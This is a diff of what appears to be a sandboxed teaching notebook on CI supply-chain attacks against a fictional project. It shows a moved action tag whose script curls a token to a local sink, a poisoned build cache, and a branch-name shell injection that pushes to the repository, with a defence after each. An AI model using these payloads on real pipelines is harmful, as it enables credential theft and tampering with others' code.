@@ -5,56 +5,45 @@
 # > that the release restored. Versions 8.3.41 and 8.3.42 came out of the right workflow, with attestations.
 # > [V: PyPI, attack analysis; the details S]
 #
-# **You will** (90 min: 16 reading, 74 doing)
+# **You will** (65 min: 19 reading, 46 doing)
 # - steal a secret through a tag that moved, pin it, and steal the secret again one level deeper
 # - poison a cache, and verify a bad wheel with clients that are right to accept it
 # - push to a repository you have no right to, with the name of a branch
 # - stop each of them with one change, and say which check did it
 #
-# **Before:** `02_anatomy`. **Lab:** `labs/02_hardening.ipynb`
+# **Before:** `02_anatomy`. **Next:** `02_evidence`. **Lab:** `labs/02_hardening.ipynb`
 
 # %% tags=["parameters"]
 seed = 1
 
 # %%
 import re
-import shutil
 
 import chainlab
-import pandas as pd
 from chainlab.ci.copies import working_copy
 
-pd.set_option("display.width", 140, "display.max_columns", None, "display.max_colwidth", None)
 lab = chainlab.open("02_attacks", seed=seed)
 lab.ci.sandbox.require()  # no wall around the jobs, no payloads
 mirror, cache = lab.ci.platform.mirror, lab.ci.platform.cache
 mirror.reset()
-_ = cache.delete("acme/triage-model")
+cache.delete("acme/triage-model")
+CI, LABEL, RELEASE = (f".github/workflows/{name}.yml" for name in ("ci", "label", "release"))
 
-# %% [markdown]
-# `sandbox.require()` stops here on a machine where nothing would keep a payload in. The payloads read *fake* secrets, and
-# send them to a *sink*: a small server on this machine, opened by this notebook. Jobs reach it only when we name its port. Attackers and victims are fictional. You keep the promise of week 0:
-# none of this leaves this machine, and none of it is tried on anybody else's.
-#
-# Each attack goes the same way: what happened, the entry, the payload, the run, **the sink or the registry**, one
-# defence, the same attack again. Logs prove nothing here. A thief writes the log, too.
 
-# %%
 def project_of(kind="weak"):
     """acme's repository, with its files as they are or with the hardened workflows."""
     folder = working_copy(lab.data / "projects", lab.path / "triage-model", kind)
     return lab.ci.project("acme/triage-model", folder, lab.data / "projects/settings/triage-model.toml")
 
-
-def edit(project, name, *changes):
-    """acme changes a workflow: pairs of old and new text."""
-    file = project.folder / ".github/workflows" / name
-    for old, new in changes:
-        assert old in file.read_text(), f"{name} has no {old!r}"
-        file.write_text(file.read_text().replace(old, new))
-    return project.commit(f"change {name}")
-
 # %% [markdown]
+# `sandbox.require()` stops here on a machine where nothing would keep a payload in. The payloads read *fake* secrets, and
+# send them to a *sink*: a small server on this machine, opened by this notebook, that collects what it is sent. Jobs reach
+# it only when we name its port. Attackers and victims are fictional. You keep the promise of week 0: none of this leaves
+# this machine, and none of it is tried on anybody else's.
+#
+# Each attack goes the same way: what happened, the entry, the payload, your prediction, the run, **the sink or the
+# registry**, one defence, the same attack again. Logs prove nothing here. A thief writes the log, too.
+#
 # ## Attack 1: the tag moves
 # **What happened.** March 2025: whoever held a token of `tj-actions` pointed every tag of `changed-files` at one commit,
 # which printed the secrets of the run into its log. [V: CVE-2025-30066; how: S]
@@ -63,20 +52,19 @@ def edit(project, name, *changes):
 # commands that install and test become `true`. Nothing else is changed.)
 
 # %%
-QUICK = [(command, "true") for command in (
-    "python -m pip download --quiet --no-deps --dest .wheels acme-cells acme-quantise",
-    "python -m pytest -q")]
 acme = project_of()
-file = acme.folder / ".github/workflows/ci.yml"
-file.write_text(re.sub(r"(?m)^ *uv pip .*$", "          true", file.read_text()))
-edit(acme, "ci.yml", *QUICK)
+file = acme.folder / CI
+acme.edit(CI, ("python -m pip", "true"), ("uv pip", "true"), ("python -m pytest", "true"))
 for line in file.read_text().splitlines():
     if "uses:" in line or "HUB_TOKEN" in line:
         print(line.strip())
 
 # %% [markdown]
 # **The payload.** A commit in the action's repository, and the tag on it. The thief has the maintainer's token, and no
-# rights at all in `acme/triage-model`. Its three lines print the token, print it spelled differently, and send it off.
+# rights at all in `acme/triage-model`. Three lines print acme's token, print it spelled differently, and send it off.
+#
+# **Predict.** The tag moves, and acme pushes a commit that has nothing to do with it. How does the run end, and what is in
+# the sink? Put your guesses in place of `None` in the second cell, run both and compare.
 
 # %%
 def thief(name, sink):
@@ -94,25 +82,34 @@ runs:
         curl --silent --data "$HUB_TOKEN" {sink.url}
 """.encode()}
 
-# %%
+# %% tags=["predict"]
+prediction = {"the run": None, "the sink": None}  # "success" or "failure"; "nothing" or "a token"
+
 sink = lab.sink()
 promised = mirror.resolve("acme/changed-files@v3").commit
 moved = mirror.move_tag("acme/changed-files", "v3", thief("changed-files", sink))
 run = acme.run("push", ports=[sink.port])
-print("run:   ", run.result)
 print("sink:  ", sink.text)
 print("v3 ran:", "what it promised" if run.actions["acme/changed-files@v3"] == promised else "something else")
+lab.predicted(prediction, {"the run": run.result, "the sink": "a token" if "FAKE-" in sink.text else "nothing"})
 
 # %% [markdown]
-# The run is green, no file of ours changed, and the token is in the sink. The host noted which commit `v3` was. The
-# log, which anybody may read where a repository is public, has this:
+# The run is green, no file of ours changed, and the token is in the sink. The host noted which commit `v3` was.
+#
+# The thief also *printed* the token, once as it is and once in base64 of base64. Anybody may read the log where a repository
+# is public.
+#
+# **Predict.** In which of the two lines does the platform hide it?
 
-# %%
+# %% tags=["predict"]
 import base64
+
+prediction = {"token": None, "checksum": None}  # True (hidden) or False
 
 log = dict(re.findall(r"(?m)^(token|checksum): +(\S+)", run.log))
 print(log)
-print(base64.b64decode(base64.b64decode(log["checksum"])).decode())
+readable = base64.b64decode(base64.b64decode(log["checksum"])).decode()
+lab.predicted(prediction, {"token": log["token"] == "***", "checksum": "FAKE-" not in readable})
 
 # %% [markdown]
 # The platform hides a secret as it is spelled, and no other way. The sink was not even needed: in March 2025 the log
@@ -124,7 +121,7 @@ print(base64.b64decode(base64.b64decode(log["checksum"])).decode())
 
 # %%
 good = mirror.resolve("acme/changed-files@v3.0.0").commit
-edit(acme, "ci.yml", ("acme/changed-files@v3", f"acme/changed-files@{good}  # v3.0.0"))
+acme.edit(CI, ("acme/changed-files@v3", f"acme/changed-files@{good}  # v3.0.0"))
 sink = lab.sink()
 run = acme.run("push", ports=[sink.port])
 print("run:", run.result, "| sink:", sink.text or "nothing", "| as pinned:", good in run.actions.values())
@@ -137,8 +134,12 @@ print("run:", run.result, "| sink:", sink.text or "nothing", "| as pinned:", goo
 # Three days before, `reviewdog/action-setup@v1` had moved. Other actions called it inside, and their users were hit
 # "regardless of version or pinning method". [V: CVE-2025-30154] So we pin *all* that `ci.yml` names, by what it means
 # now, and the thief, who has another token, moves `acme/pip-cache@v1`. Our file does not contain that name.
+#
+# **Predict.** Does the token reach the sink?
 
-# %%
+# %% tags=["predict"]
+prediction = None  # True or False
+
 text = file.read_text()
 for reference in set(re.findall(r"uses: (\w[\w./-]+@[\w.]+)", text)):
     text = text.replace(reference, reference.split("@")[0] + "@" + mirror.resolve(reference).commit)
@@ -147,27 +148,26 @@ acme.commit("pin all")
 sink = lab.sink()
 mirror.move_tag("acme/pip-cache", "v1", thief("pip-cache", sink))
 run = acme.run("push", ports=[sink.port])
-print("pip-cache in our file:", "pip-cache" in file.read_text(), "| sink:", sink.text)
+print("pip-cache in our file:", "pip-cache" in file.read_text(), "| sink:", sink.text or "nothing")
+lab.predicted(prediction, "FAKE-" in sink.text)
 
 # %% [markdown]
 # Every line of `ci.yml` is pinned, every pin held, and the token is gone. Who named the thief?
 
 # %%
 def tree(folder):
-    """Every action that ci.yml reaches: how deep, named by whom, and by what kind of name."""
+    """Every action that ci.yml reaches."""
     text = (folder / ".github/workflows/ci.yml").read_text()
     local = lambda path: (folder / path).read_text() if (folder / path).exists() else None
-    found = mirror.closure({"ci.yml": text}, read=local)
-    return pd.DataFrame([{"depth": a.depth, "action": a.name, "by": "commit" if a.pinned else a.ref,
-                          "in": a.file.partition("@")[0]} for a in found]).set_index("depth")
+    return mirror.closure({"ci.yml": text}, read=local)
 
 
 before = tree(acme.folder)
 before
 
 # %% [markdown]
-# At depth 0, four commits, and a branch `main` that our *own* action `.github/actions/summary` names: ours to pin. At depth
-# 1, two promises in a file that is not ours. What can you do about those?
+# Our file names four actions by commit. Our *own* action `.github/actions/summary` names a branch, `main`: ours to pin. And
+# two names that can move stand in a file that is not ours. What can you do about those?
 #
 # 1. **Do without.** Our hardened `ci.yml` uses no `setup-ml-python`: the runner has a Python.
 # 2. Use an action whose author pins too, and *check the whole tree* whenever you move the pin.
@@ -176,8 +176,12 @@ before
 #    the one step that needs it, and the job's token been `contents: read`, the thief would have found no more than
 #    the guest of `02_anatomy` in its last column.
 #
-# (A policy of the platform can *require* commit pins, and block actions by name. [V: changelog, 15 August 2025] Try what
-# it says of nested ones before you count on it.) We take the first, and the same attack again:
+# (A policy of the platform can *require* commit pins, and block actions by name. [V: changelog, 15 August 2025] It looks
+# inside composite actions, too: a caller whose own lines are all pinned is refused before it runs when an action that it
+# uses names another by tag. That stops this attack. The price: many popular actions could not be used until their authors
+# had pinned what they call. [V: maintainers' threads, such as github-slug-action issue 174])
+#
+# We take the first, and the same attack again:
 
 # %%
 text = re.sub(r" +- uses: acme/setup-ml-python.*\n +with:\n.*\n", "", file.read_text())
@@ -188,11 +192,13 @@ summary.write_text(summary.read_text().replace("post-metrics@main", f"post-metri
 acme.commit("do without")
 sink = lab.sink()
 run = acme.run("push", ports=[sink.port])
-print("run:", run.result, "| sink:", sink.text or "nothing", "| named by:", set(tree(acme.folder)["by"]))
+print("run:", run.result, "| sink:", sink.text or "nothing")
+tree(acme.folder)
 
 # %% tags=["check"]
-assert base64.b64decode(base64.b64decode(log["checksum"])).decode().startswith("FAKE-") and log["token"] == "***"
-assert list(before["by"]) == ["commit"] * 4 + ["v5", "v1", "main"]  # the text counts them
+assert readable.startswith("FAKE-") and log["token"] == "***"
+assert sorted(a.ref for a in before if not a.pinned) == ["main", "v1", "v5"]  # the text counts them
+assert sum(a.pinned for a in before) == 4 and all(a.pinned for a in tree(acme.folder))
 assert moved != promised == good and run.result == "success" and not sink.received
 assert "acme/pip-cache" not in run.log and "setup-ml-python" not in file.read_text()
 
@@ -203,29 +209,40 @@ assert "acme/pip-cache" not in run.log and "setup-ml-python" not in file.read_te
 #
 # **Which platform.** Until 26 June 2026 a run of `pull_request_target` could write the default branch's cache. Since
 # then it only reads it. [V: changelog] We attack the platform *as it was*, and say so in the call:
-# `cache_rule="before-2026-06-26"`.
+# `cache_rule="before-2026-06-26"`. A cache has *scopes*, one for each ref:
+
+# %%
+import matplotlib.pyplot as plt
+
+from chainlab.dashboards import diagrams
+
+plt.style.use("chainlab.dashboards.style")
+fig, ax = diagrams.cache_scopes(title="One scope is written by a stranger's run and read by the release")
+
+# %% [markdown]
+# In words: a run searches its own ref's scope, then its base's, then the default branch's. A `pull_request` writes into a
+# scope of its own, which no release reads. A `pull_request_target` wrote into that of `main`, and a release reads there.
 #
 # **The entry.** `bench.yml` runs on `pull_request_target`, checks out the change, executes its `tests/size.py` and keeps
 # `.wheels`. `release.yml` restores `.wheels`. They share the beginning of a key: `wheels-`. Before the attack acme has
-# followed one piece of advice: no stored token, but trusted publishing from the environment `release`. So the wheel will carry
-# an attestation.
+# followed one piece of advice: it stores no upload token. With *trusted publishing* the index accepts an upload by the
+# job's own identity token, here from the environment `release`. So the wheel will carry an attestation.
 
 # %%
 mirror.reset()  # the owners have their repositories back
 acme = project_of()
 init = acme.folder / "src/triage_model/__init__.py"
 init.write_text(init.read_text().replace("1.4.0", "1.4.1"))
-edit(acme, "release.yml",
-     ("        with:\n          password: ${{ secrets.PYPI_TOKEN }}\n", ""),
-     ("    needs: build\n", "    needs: build\n    environment: release\n"))
-for name in ("bench.yml", "release.yml"):
-    text = (acme.folder / ".github/workflows" / name).read_text()
-    print(name, "|", *re.findall(r"(?m)^ +(pull_request_target:|tags: .*|restore-keys: .*|path: \.wheels)", text))
+_ = acme.edit(RELEASE,
+              ("        with:\n          password: ${{ secrets.PYPI_TOKEN }}\n", ""),
+              ("    needs: build\n", "    needs: build\n    environment: release\n"))
 
 # %% [markdown]
 # **The payload.** Mallory replaces the file that measures sizes. Hers takes a wheel from the kept ones and writes a
 # "newer version" of it beside it, with one more line. The line leaves a marker, in whatever project trains with it.
 # (The real one stole tokens. Ours writes "left by a cache".)
+#
+# **Predict.** What does the benchmark's run report for her pull request, and into which scope does it save?
 
 # %%
 POISON = '''
@@ -242,27 +259,19 @@ with zipfile.ZipFile(".wheels/acme_quantise-1.0.9-py3-none-any.whl", "w") as bad
 print("456 lines")
 '''
 
-# %%
-def propose(project, files, branch="typo"):
-    """Mallory's pull request, from her fork."""
-    shutil.rmtree(lab.path / "fork", ignore_errors=True)
-    fork = shutil.copytree(project.folder, lab.path / "fork")
-    for path, text in files.items():
-        (fork / path).write_text(text)
-    return project.pull_request(owner="mallory", branch=branch, folder=fork, title="A typo")
+# %% tags=["predict"]
+prediction = {"the run": None, "the scope": None}  # "success" or "failure"; a ref, such as "refs/pull/1/merge"
 
-
-change = propose(acme, {"tests/size.py": POISON})
+change = acme.propose({"tests/size.py": POISON}, branch="typo", owner="mallory")
 bench = acme.run("pull_request_target", pull=change, workflow="bench.yml", cache_rule="before-2026-06-26")
 print("run:", bench.result, "| as pull request it says:", bench.summary.strip())
-for entry in cache.entries("acme/triage-model"):
-    key = entry.key.replace(str(bench.id), "<its run>")
-    print("saved by it:", f"runs/{bench.id}/" in entry.who, "| in the scope:", entry.scope, "| key:", key)
+(entry,) = (entry for entry in cache.entries("acme/triage-model") if f"runs/{bench.id}/" in entry.who)
+lab.predicted(prediction, {"the run": bench.result, "the scope": entry.scope})
 
 # %% [markdown]
 # A green run that reports a plausible number. An entry in `main`'s scope, by a stranger. She closes her pull request; no
-# line of hers is ever merged. Then somebody at acme tags a release. (This is the long run of this notebook.) Look into the
-# registry: what is in the wheel?
+# line of hers is ever merged. Then somebody at acme tags a release. (This is the long run of this notebook.)
+# Then look into the wheel, and list what is in no commit of acme's.
 
 # %%
 import zipfile
@@ -273,53 +282,53 @@ acme.tag("v1.4.1")
 release = acme.run("push", ref="refs/tags/v1.4.1", job="publish", approve=["release"])
 wheel = "triage_model-1.4.1-py3-none-any.whl"
 stored = lab.registry.index.file("triage-model", wheel)
-print("run:", release.result, "| in the index:", stored.filename)
+print("in the index:", stored.filename)
+release
 
+# %%
 ours = {path.name for path in init.parent.glob("*.py")}
 with zipfile.ZipFile(lab.registry.index.path(stored)) as content:
-    for name in content.namelist():
-        if name.startswith("triage_model/"):
-            known = name.partition("/")[2] in ours
-            print(f"{name:26}", "" if known else f"in no commit: {content.read(name).decode()!r}")
+    names = [name for name in content.namelist() if name.startswith("triage_model/")]
+    foreign = {name: content.read(name).decode() for name in names if name.partition("/")[2] not in ours}
+foreign
 
 # %% [markdown]
 # The marker is in the published wheel. The file is in no commit of acme's and in none of Mallory's.
 #
-# Now you are the user. Two pieces of evidence come with this wheel: the attestation of the workflow, and the
-# provenance of the platform. You have the root, and you know whom to expect. Predict both verdicts.
+# Now you are the user. Two signed statements come with this wheel: the workflow's, that it published it, and the
+# platform's, how the job went that built it (its *provenance*). `02_evidence` takes both apart. Here one function verifies
+# them: it asks the unmodified Sigstore client whether the signature holds under our root, then compares signer, digest and
+# kind of statement with what you expect.
+#
+# **Predict.** You expect acme's `release.yml` at the tag v1.4.1 and the platform's own builder, and the bytes are those that
+# you received. What are the two verdicts?
 
 # %%
-import json
+from pypi_attestations import AttestationType, Provenance
 
-from pypi_attestations import Provenance
-from sigstore.models import Bundle
-from sigstore.verify import Verifier, policy
+from chainlab.evidence.verifying import Expected, Signer, verify
 
-GIT = "https://git.chainlab.localhost"
-(bundle,) = Provenance.model_validate(lab.registry.index.provenance(stored)).attestation_bundles
+(attested,) = Provenance.model_validate(lab.registry.index.provenance(stored)).attestation_bundles
 items = lab.registry.evidence.document(stored.digest)["attached"]
-item = [i for i in items if i["source"].endswith(f"/runs/{release.id}/jobs/build")][0]
-platform = Bundle.from_json(lab.registry.evidence.read(stored.digest, Digest.parse(item["digest"])))
+(item,) = (i for i in items if i["source"].endswith(f"/runs/{release.id}/jobs/build"))
+by_workflow = attested.attestations[0].to_bundle().to_json().encode()
+by_platform = lab.registry.evidence.read(stored.digest, Digest.parse(item["digest"]))
+received = Digest.of_file(lab.registry.index.path(stored))
 
+# %% tags=["predict"]
+prediction = {"the workflow's statement": None, "the platform's statement": None}  # "passed" or "refused"
 
-def verified(bundle, workflow, digest):
-    """The statement, if its signer is that workflow and its subject that digest; raises otherwise."""
-    expected = policy.Identity(identity=f"{GIT}/{workflow}", issuer=lab.trust.ci_issuer)
-    statement = json.loads(Verifier(trusted_root=lab.trust.config.trusted_root).verify_dsse(bundle, expected)[1])
-    assert any(s["digest"] == {"sha256": digest.value.hex()} for s in statement["subject"]), "another file"
-    return statement
+GIT, ISSUER, root = "https://git.chainlab.localhost", lab.trust.ci_issuer, lab.trust.config.trusted_root
+release_yml = Signer(f"{GIT}/acme/triage-model/.github/workflows/release.yml@refs/tags/v1.4.1", ISSUER)
+provenance_yml = Signer(f"{GIT}/chainlab/ci-host/.github/workflows/provenance.yml@refs/heads/main", ISSUER)
+published = Expected(release_yml, AttestationType.PYPI_PUBLISH_V1.value)
+built = Expected(provenance_yml, "https://slsa.dev/provenance/v1", commit=acme.head("refs/tags/v1.4.1"))
+verdicts = {"the workflow's statement": verify(by_workflow, received, published, root),
+            "the platform's statement": verify(by_platform, received, built, root)}
+lab.predicted(prediction, {name: "passed" if v.passed else "refused" for name, v in verdicts.items()})
 
 # %%
-received = Digest.of_file(lab.registry.index.path(stored))
-publish = verified(bundle.attestations[0].to_bundle(), "acme/triage-model/.github/workflows/release.yml@refs/tags/v1.4.1", received)
-provenance = verified(platform, "chainlab/ci-host/.github/workflows/provenance.yml@refs/heads/main", received)
-definition = provenance["predicate"]["buildDefinition"]
-print("attestation valid:", bool(publish), "|", "/".join(publish["predicateType"].split("/")[-2:]))
-print("provenance valid: ", bool(provenance), "|", "/".join(provenance["predicateType"].split("/")[-2:]))
-print("source:           ", definition["resolvedDependencies"][0]["uri"].removeprefix(f"git+{GIT}/"))
-source = definition["resolvedDependencies"][0]["digest"]["gitCommit"]
-print("right commit:     ", source == acme.head("refs/tags/v1.4.1"))
-print("caused by:        ", definition["internalParameters"])
+verdicts["the platform's statement"]
 
 # %% [markdown]
 # **Valid. Twice. On a bad wheel.** The clients are not fooled, and nothing is forged. Go through the promises:
@@ -338,9 +347,10 @@ print("caused by:        ", definition["internalParameters"])
 # Does the evidence say *anything*? Look at what is missing, and at who saw it:
 
 # %%
+definition = verdicts["the platform's statement"].statement.predicate["buildDefinition"]
 listed = [d["name"] for d in definition["resolvedDependencies"] if d["uri"].startswith("pkg:")]
-print("in the provenance:", "numpy and others," if any(n.startswith("numpy") for n in listed) else "",
-      "acme-quantise:", [n for n in listed if n.startswith("acme_quantise")] or "none")
+print("in the provenance:", len(listed), "packages; acme-quantise:",
+      [n for n in listed if n.startswith("acme_quantise")] or "none")
 (restored,) = [e.data for e in lab.events("dev.chainlab.cache.restored") if f"runs/{release.id}/" in e.data["who"]]
 print("the host's event: ", "an entry restored from", restored["scope"])
 (saved,) = [e.data for e in lab.events("dev.chainlab.cache.saved") if e.data["key"] == restored["key"]]
@@ -358,18 +368,24 @@ print("and who saved it: ", origin.workflow.rpartition("/")[2], "on", origin.eve
 # ### Defence by the platform
 # The same pull request, under the rule of today. And once more as `pull_request`, for which Mallory brings her own
 # workflow file: she may, since that event runs the file of the change.
+#
+# **Predict.** Into which scope does each save? Write "nowhere", "main" or "its own".
 
-# %%
+# %% tags=["predict"]
+prediction = {"pull_request_target, now": None, "pull_request, before": None}
+
 own = (acme.folder / ".github/workflows/bench.yml").read_text().replace("pull_request_target:", "pull_request:")
-second = propose(acme, {"tests/size.py": POISON, ".github/workflows/bench.yml": own})
+second = acme.propose({"tests/size.py": POISON, ".github/workflows/bench.yml": own}, branch="again", owner="mallory")
 before_june = {"workflow": "bench.yml", "cache_rule": "before-2026-06-26"}
 tries = {
     "pull_request_target, now": acme.run("pull_request_target", pull=change, workflow="bench.yml"),
     "pull_request, before": acme.run("pull_request", pull=second, **before_june),
 }
-for name, run in tries.items():
-    scopes = [e.scope for e in cache.entries("acme/triage-model") if f"runs/{run.id}/" in e.who]
-    print(f"{name:26} {run.result} | saved in:", re.sub(r"\d+", "N", "".join(scopes)) or "nowhere")
+scopes = {name: [e.scope for e in cache.entries("acme/triage-model") if f"runs/{run.id}/" in e.who]
+          for name, run in tries.items()}
+kinds = {name: "nowhere" if not saved_in else "main" if "refs/heads/main" in saved_in else "its own"
+         for name, saved_in in scopes.items()}
+lab.predicted(prediction, kinds)
 
 # %% [markdown]
 # Now the token for the cache may only read, and the save is refused: the *platform* checks the scope that a job's
@@ -380,9 +396,14 @@ for name, run in tries.items():
 # a stranger's code, the way is open again. And the rule is one platform's, for its own cache. So do not rely on it alone:
 #
 # ### Defence in the workflow
-# The hardened release uses no cache, and installs by hash. The poisoned entry is still there.
+# The hardened release uses no cache, and installs by hash. The poisoned entry is still there. We build the same version
+# again.
+#
+# **Predict.** Is the wheel the same as the published one? Is the model?
 
-# %%
+# %% tags=["predict"]
+prediction = {"same wheel": None, "same model": None}  # True or False
+
 there = [e for e in cache.entries("acme/triage-model") if e.key == saved["key"]]
 acme = project_of("hardened")
 init.write_text(init.read_text().replace("1.4.0", "1.4.1"))
@@ -391,16 +412,8 @@ acme.tag("v1.4.1")
 rebuilt = acme.run("push", ref="refs/tags/v1.4.1", job="build")
 restores = [e for e in lab.events("dev.chainlab.cache.restored") if f"runs/{rebuilt.id}/" in e.data["who"]]
 models = {run.artifacts["model"]["triage.onnx"] for run in (release, rebuilt)}
-print("run:", rebuilt.result, "| poison still in the cache:", bool(there), "| restored:", restores or "nothing")
-print("same wheel as published:", rebuilt.artifacts["dist"][wheel] == str(received))
-print("same model:", len(models) == 1)
-
-# %% tags=["check"]
-assert bench.result == release.result == rebuilt.result == "success"
-assert origin.event == "pull_request_target" and origin.actor == "mallory"
-assert rebuilt.artifacts["dist"][wheel] != str(received) and there
-today = tries["pull_request_target, now"]
-assert not any(f"runs/{today.id}/" in e.who for e in cache.entries("acme/triage-model"))
+print("poison still in the cache:", bool(there), "| restored:", restores or "nothing")
+lab.predicted(prediction, {"same wheel": rebuilt.artifacts["dist"][wheel] == str(received), "same model": len(models) == 1})
 
 # %% [markdown]
 # The poison lies where it lay, and nobody asks for it. That is the rebuild, too: same source, same version,
@@ -420,6 +433,8 @@ assert not any(f"runs/{today.id}/" in e.who for e in cache.entries("acme/triage-
 # **The payload.** A name may hold no space, no colon and no backslash. `${IFS}` is a space to a shell, and base64 needs no
 # colon. What it decodes to uses the credential that `checkout` left in `.git/config`: it *pushes a branch to acme's
 # repository*, and sends the credential to the sink. The files of the change hold a corrected typo and nothing else.
+#
+# **Predict.** What does she get by opening a pull request that nobody merges?
 
 # %%
 def branch_name(sink, quote):
@@ -432,17 +447,22 @@ def branch_name(sink, quote):
 def strike(project, quote='"', files=None):
     """Open the pull request, let label.yml run, and look for what it left."""
     sink = lab.sink()
-    change = propose(project, files or {"README.md": "A typo, corrected.\n"}, branch_name(sink, quote))
+    files = files or {"README.md": "A typo, corrected.\n"}
+    change = project.propose(files, branch=branch_name(sink, quote), owner="mallory")
     run = project.run("pull_request_target", pull=change, workflow="label.yml", ports=[sink.port])
     refs = lab.ci.platform.remote.refs("acme/triage-model")
     pushed = refs.get("refs/heads/mallory-was-here") == change.head.commit
     got = "a credential" if "basic " in sink.text else sink.text or "nothing"
     return {"run": run.result, "sink": got, "branch in acme's repository": pushed}
 
-# %%
+# %% tags=["predict"]
+prediction = {"a credential in the sink": None, "a branch in acme's repository": None}  # True or False
+
 mirror.reset()
 acme = project_of()
-pd.DataFrame({"as it was": strike(acme)}).T
+first = strike(acme)
+lab.predicted(prediction, {"a credential in the sink": first["sink"] == "a credential",
+                           "a branch in acme's repository": first["branch in acme's repository"]})
 
 # %% [markdown]
 # The stranger's commit is in acme's repository, under a branch of its own. It could have been any branch that is not
@@ -450,12 +470,16 @@ pd.DataFrame({"as it was": strike(acme)}).T
 # itself is dead by now: it ended with its job. The branch stays.)
 #
 # **"Then quote it."** The line *had* double quotes, and the name brought one. Single quotes, say, in which a shell expands
-# nothing:
+# nothing.
+#
+# **Predict.** Do they stop the old name, which brings a double quote, and a new one, which brings a single quote?
 
-# %%
-edit(acme, "label.yml", ('echo "BRANCH=${{ github.head_ref }}"', "echo 'BRANCH=${{ github.head_ref }}'"))
+# %% tags=["predict"]
+prediction = {"single quotes, old name": None, "single quotes, new name": None}  # True (stopped) or False
+
+acme.edit(LABEL, ('echo "BRANCH=${{ github.head_ref }}"', "echo 'BRANCH=${{ github.head_ref }}'"))
 rows = {"single quotes, old name": strike(acme), "single quotes, new name": strike(acme, quote="'")}
-pd.DataFrame(rows).T
+lab.predicted(prediction, {name: not row["branch in acme's repository"] for name, row in rows.items()})
 
 # %% [markdown]
 # The old name fails: inside single quotes it is a word. The new one brings a single quote. There is no quote that a name
@@ -465,14 +489,15 @@ pd.DataFrame(rows).T
 # it and does not parse the result again.
 
 # %%
-edit(acme, "label.yml",
+acme.edit(
+     LABEL,
      ("        run: |\n          echo 'BRANCH=${{ github.head_ref }}' >> $GITHUB_ENV\n",
       "        env:\n          BRANCH: ${{ github.head_ref }}\n"
       "          TITLE: ${{ github.event.pull_request.title }}\n"
       '        run: |\n          echo "$BRANCH"\n'),
      ('"${{ github.event.pull_request.title }}"', '"$TITLE"'))
 rows = {f"passed, name with {quote}": strike(acme, quote) for quote in ('"', "'")}
-pd.DataFrame(rows).T
+rows
 
 # %% [markdown]
 # Both names are inert. No list of bad characters, no filter. (We also stopped writing into `$GITHUB_ENV`: what a stranger
@@ -480,23 +505,36 @@ pd.DataFrame(rows).T
 #
 # ### The other door
 # `label.yml` still checks out the change and runs `tests/size.py` from it, under `contents: write`. Mallory does not need
-# the name of the branch. With the injection closed, and an ordinary file:
+# the name of the branch. The workflow says `actions/checkout@v4`; our mirror's `v4` is the one of before 20 July 2026.
+#
+# **Predict.** The injection is closed, and her file is an ordinary one. Does she get in, and does she after acme moves to
+# `checkout@v7`?
 
-# %%
+# %% tags=["predict"]
+prediction = {"injection closed, her file runs": None, "and checkout v7": None}  # True (she is in) or False
+
 OPEN = "import subprocess; subprocess.run('git push -q origin +HEAD:refs/heads/mallory-was-here'.split())\n"
 rows = {"injection closed, her file runs": strike(acme, files={"tests/size.py": OPEN})}
-edit(acme, "label.yml", ("actions/checkout@v4", "actions/checkout@v7"))
+acme.edit(LABEL, ("actions/checkout@v4", "actions/checkout@v7"))
 rows["and checkout v7"] = strike(acme, files={"tests/size.py": OPEN})
-pd.DataFrame(rows).T
+lab.predicted(prediction, {name: row["branch in acme's repository"] for name, row in rows.items()})
 
 # %% tags=["check"]
+assert bench.result == release.result == rebuilt.result == "success"
+assert origin.event == "pull_request_target" and origin.actor == "mallory"
+assert rebuilt.artifacts["dist"][wheel] != str(received) and there
+today = tries["pull_request_target, now"]
+assert not any(f"runs/{today.id}/" in e.who for e in cache.entries("acme/triage-model"))
+assert first["sink"] == "a credential" and first["branch in acme's repository"]
 assert rows["injection closed, her file runs"]["branch in acme's repository"] is True
 assert rows["and checkout v7"] == {"run": "failure", "sink": "nothing", "branch in acme's repository": False}
 
 # %% [markdown]
-# The first row: one door closed, the other open. The second: `actions/checkout` v7.0.0, of 18 June 2026, refuses to check
-# out a fork's change under `pull_request_target`, unless `allow-unsafe-pr-checkout: true` says so. [V: release notes]
-# The job fails, and nothing is executed. A plain `git fetch` in a script is outside that protection.
+# First, one door closed and the other open: she is in. Then the job fails, and nothing is executed: `actions/checkout` v7.0.0, of 18 June 2026, refuses to check
+# out a fork's change under `pull_request_target`, unless `allow-unsafe-pr-checkout: true` says so. On 20 July 2026 the same
+# refusal came to the older lines, as v4.4.0, v5.1.0 and v6.1.0. [V: release notes] So on the platform of today
+# the first attempt fails, too, because `v4` has moved: here, for once, a moved tag is a gift. A plain `git fetch` in a
+# script is outside that protection.
 #
 # The hardened set goes further and uses `pull_request` with `contents: read`: the label is not set by a robot then. A
 # control costs something; say what.
@@ -509,7 +547,7 @@ assert rows["and checkout v7"] == {"run": "failure", "sink": "nothing", "branch 
 # |---|---|---|
 # | `actions/checkout@v7` | yes | yes |
 # | `actions/checkout@<commit of v7.0.0>` | no | yes |
-# | `actions/checkout@v4` | yes | no; perhaps, if the backport that was announced for July 2026 came [S, not confirmed] |
+# | `actions/checkout@v4` | yes | yes, since v4.4.0 of 20 July 2026 [V: release notes]; before that, no |
 # | `actions/checkout@<commit of v4.2.2>` | no | **no, whatever is backported** |
 #
 # A pin is a promise to yourself that you will look again. So: pin every level, keep the version in a comment, let a tool
